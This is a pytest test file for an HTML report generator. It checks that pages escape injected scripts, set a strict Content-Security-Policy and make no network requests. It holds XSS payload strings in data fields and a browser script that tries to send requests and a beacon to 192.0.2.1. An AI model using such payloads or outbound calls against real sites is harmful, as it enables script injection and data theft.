"""Every kind of page that can be made, in a browser without a network: what it holds, asks for and would let in (G07, G08)."""

import getpass
import platform
import re
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import clusternet as cn
from clusternet.messages import LANGUAGES
from clusternet.metrics import METRICS
from clusternet.model import Network, Partition, Settings
from clusternet.report import write_map
from clusternet.report.edition.editing import publish_edition

#: FAULTS C15, each with a number of its own to shout.
SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    '"><img src=x onerror=alert(3)>',
    "</title></style><svg onload=alert(4)>",
    "<iframe srcdoc='<script>alert(5)</script>'></iframe>",
    "<a href='javascript:alert(6)' onmouseover=alert(7)>link</a>",
)
#: A user and a machine that nobody else is called by.
USER, HOST = "zquserzq", "zqhostzq"
FIGURES = {
    "map": lambda network, partition, scores: cn.draw_map(network, partition, scores),
    "quadrant": lambda network, partition, scores: cn.draw_quadrant(scores, partition, network),
    "profile": lambda network, partition, scores: cn.draw_profile(scores, 0),
    "matrix": lambda network, partition, scores: cn.draw_matrix(network, partition),
    "flow": lambda network, partition, scores: cn.draw_flow(network, scores),
    "chain": lambda network, partition, scores: cn.draw_chain(network, scores, 0),
    "stability": lambda network, partition, scores: cn.draw_stability(network, partition, scores),
}
STUDY = ("report.html", "report.ar.html", "map.html")
EDITIONS = ("public/report.html", "public/report.ar.html", "partners/report.html", "partners/report.ar.html")
PAGES = (*STUDY, *EDITIONS, *(f"figures/{name}.html" for name in FIGURES))


def town() -> tuple[Network, Partition]:
    """Two groups of seven, in each of whose text fields stands a script."""
    ids = [f"{place:02d}{SCRIPTS[place % len(SCRIPTS)]}" for place in range(14)]
    texts = [SCRIPTS[place % len(SCRIPTS)] for place in range(14)]
    enterprises = pd.DataFrame(dict.fromkeys(("name", "name_alt", "stage", "place"), texts)).assign(
        enterprise_id=ids,
        sector=["3100", "1610"] * 7,
        workers=5,
        consent_publish="named",
        latitude=30.1,
        longitude=31.2,
    )
    rows = [(ids[i], ids[j], "supply") for i in range(14) for j in range(i) if i // 7 == j // 7] + [
        (ids[0], ids[7], "stock")
    ]
    linkages = pd.DataFrame([*rows, (ids[1], SCRIPTS[0], "stock")], columns=["source", "target", "layer"])
    resources = pd.DataFrame(
        [(ids[place], texts[1], role, "material", 1.0, "kg", 2.0) for place, role in enumerate(["need", "offer"] * 7)],
        columns=["enterprise_id", "resource", "role", "factor", "quantity", "unit", "unit_cost"],
    )
    recipes = pd.DataFrame(
        {"product": [texts[0], texts[1]], "stage": texts[:2], "input": [texts[1], None], "quantity": [1.0, 1.0]}
    )
    settings = Settings(title=SCRIPTS[3], boundary=SCRIPTS[0])
    network = Network.from_tables(enterprises, linkages, resources, recipes, settings=settings)
    order = {identifier: place for place, identifier in enumerate(ids)}
    labels = np.array([order[identifier] // 7 for identifier in network.enterprise_ids])
    return network, Partition(network.enterprise_ids, labels)


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """Every kind of page, made by a user of a telling name."""
    folder = tmp_path_factory.mktemp("zqfolderzq")
    with pytest.MonkeyPatch.context() as patch:
        for name in ("USER", "LOGNAME", "USERNAME", "LNAME"):
            patch.setenv(name, USER)
        patch.setattr(platform, "node", lambda: HOST)
        patch.setattr(getpass, "getuser", lambda: USER)
        network, partition = town()
        scores = cn.score_clusters(network, partition, draws=2, null="fixed", seed=1)
        cn.write_report(network, partition, scores, out=folder / "study", languages=list(LANGUAGES), command="study x")
        cards = {name: METRICS[name].card for name in METRICS}
        for profile in ("public", "partners"):
            publish_edition(
                folder / "study",
                out=folder / "study" / ".." / profile,
                profile=profile,
                cards=cards,
                languages=list(LANGUAGES),
            )
        (folder / "figures").mkdir()
        for name, draw in FIGURES.items():
            write_map(draw(network, partition, scores), folder / "figures" / f"{name}.html", title=SCRIPTS[3])
    return {name: folder / ("study" if name in STUDY else ".") / name for name in PAGES}


class Tags(HTMLParser):
    """Every element of a page with its attributes; what stands in scripts is text and no element."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))


@pytest.mark.parametrize("name", PAGES)
def test_G08_a_page_names_no_address_no_path_and_no_person(pages, name):
    text = pages[name].read_text(encoding="utf-8")
    tags = Tags(text).found
    loading = [
        (tag, attribute, value)
        for tag, attributes in tags
        for attribute, value in attributes.items()
        if attribute in ("src", "href", "srcset", "action", "formaction", "data", "poster", "xlink:href", "background")
    ]
    # Links lead to a place on the page or to another page of the same folder.
    assert [found for found in loading if not re.fullmatch(r"#.*|data:.*|[\w.-]+\.html", found[2])] == []
    assert not [tag for tag, _ in tags if tag in ("base", "iframe", "object", "embed", "form")]
    assert not [tag for tag, attributes in tags if tag == "input" and attributes.get("type") == "file"]
    assert not [
        tag for tag, attributes in tags if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh"
    ]
    assert not re.search(r"@import|url\(\s*['\"]?(https?:)?//", text.split("<script")[0])
    # Plotly's own code has words for buttons that are not shown; a browser looks for those below.
    ours = [part for part in text.split("</script>") if "plotly.js v" not in part[:2000]]
    assert len(ours) >= len(text.split("</script>")) - 1
    for word in ("Share chart", "Chart Studio", '"showSendToCloud":true', '"showSendToCloud": true', "plot.ly"):
        assert not any(word in part for part in ours), word
    for private in (USER, HOST, "zqfolderzq", str(Path.home()) + "/", str(Path.cwd()), "file:///"):
        assert private not in text, private


@pytest.mark.parametrize("name", PAGES)
def test_G07_a_page_says_that_it_loads_nothing(pages, name):
    tags = Tags(pages[name].read_text(encoding="utf-8")).found
    policies = [
        attributes["content"] for _, attributes in tags if attributes.get("http-equiv") == "Content-Security-Policy"
    ]
    assert len(policies) == 1
    policy = dict(part.split(" ", 1) for part in policies[0].split("; "))
    assert policy["default-src"] == policy["base-uri"] == policy["form-action"] == "'none'"
    allowed = {"script-src": "'unsafe-inline'", "style-src": "'unsafe-inline'", "img-src": "data: blob:"}
    for kind, value in policy.items():
        assert value == "'none'" or set(value.split()) <= set(allowed[kind].split()), (kind, value)
    scripted = name == "map.html" or name.startswith("figures/")
    assert ("script-src" in policy) == scripted
    # Before anything that could load.
    order = [tag if tag != "meta" or "http-equiv" not in attributes else "policy" for tag, attributes in tags]
    first = min(order.index(tag) for tag in ("script", "style", "body", "title") if tag in order)
    assert order.index("policy") < first


#: Ways in which a script that got in after all would speak to the world; each must be stopped by the page's policy.
_INTRUDER = """
async () => {
  const stopped = [];
  document.addEventListener('securitypolicyviolation', event => stopped.push(event.effectiveDirective));
  const put = (tag, more) => document.body.appendChild(Object.assign(document.createElement(tag), more));
  put('img', {src: 'https://192.0.2.1/x.png'});
  put('link', {rel: 'stylesheet', href: 'https://192.0.2.1/x.css'});
  put('script', {src: 'https://192.0.2.1/x.js'});
  put('iframe', {src: 'https://192.0.2.1/'});
  put('object', {data: 'https://192.0.2.1/x.swf'});
  put('audio', {src: 'https://192.0.2.1/x.ogg'});
  await fetch('https://192.0.2.1/', {mode: 'no-cors'}).catch(() => null);
  navigator.sendBeacon('https://192.0.2.1/', 'x');
  try { new WebSocket('wss://192.0.2.1/'); } catch (error) { }
  const kinds = () => [...new Set(stopped.map(name => name.replace(/-elem$/, '')))].sort();
  for (let turn = 0; turn < 200 && kinds().length < 7; turn++) await new Promise(done => setTimeout(done, 25));
  return kinds();
}
"""


#: Pages of one template load the same things; what the policy stops is tried out on one of each.
ONE_OF_EACH_TEMPLATE = ("report.html", "map.html", "public/report.html", "figures/map.html")
#: The rest is opened too, by make test-slow.
QUICK = (*ONE_OF_EACH_TEMPLATE, "report.ar.html", "partners/report.ar.html", "figures/quadrant.html")


@pytest.mark.browser
@pytest.mark.parametrize(
    "name", [pytest.param(name, marks=[] if name in QUICK else pytest.mark.slow) for name in PAGES]
)
def test_G07_a_page_opened_without_a_network_asks_for_nothing_and_lets_nothing_in(browser, pages, name):
    for earlier in browser.contexts[:-1]:
        earlier.close()
    context = browser.new_context(viewport={"width": 1000, "height": 800})
    context.set_offline(True)
    page, asked, trouble = context.new_page(), [], []
    address = pages[name].resolve().as_uri()
    page.on("request", lambda request: asked.append(request.url) if request.url.split("#")[0] != address else None)
    page.on("console", lambda message: trouble.append(message.text) if message.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: trouble.append(str(error)))
    page.on("dialog", lambda dialog: (trouble.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.goto(address)
    if name == "map.html":
        page.wait_for_selector("html[data-ready]")
    if name.startswith("figures/"):
        page.wait_for_selector("#clusternet-map .main-svg")
    assert asked == []
    assert trouble == []
    # What is shown offers to send nothing anywhere.
    words = page.evaluate(
        "() => [...document.querySelectorAll('button, a, input, .modebar-btn')]"
        ".map(e => [e.textContent, e.title, e.dataset.title, e.getAttribute('aria-label'), e.type].join(' ')).join('\\n')"
    )
    assert not re.search(r"share|cloud|upload|chart studio|\bfile\b", words, re.IGNORECASE), words
    # The names of the survey made no element of their own; neither did they run.
    assert page.evaluate("document.querySelectorAll('iframe, svg[onload], img[onerror], [onmouseover]').length") == 0
    if name in ONE_OF_EACH_TEMPLATE:
        failed = []
        page.on("requestfailed", lambda request: failed.append((request.url, request.failure)))
        kinds = {f"{kind}-src" for kind in ("connect", "frame", "img", "media", "object", "script", "style")}
        assert set(page.evaluate(_INTRUDER)) == kinds
        # Chromium tells of what the policy stopped as of a request; none of them was sent.
        assert {failure for _, failure in failed} <= {"csp"}
        assert set(asked) <= {url for url, _ in failed}
    context.close()
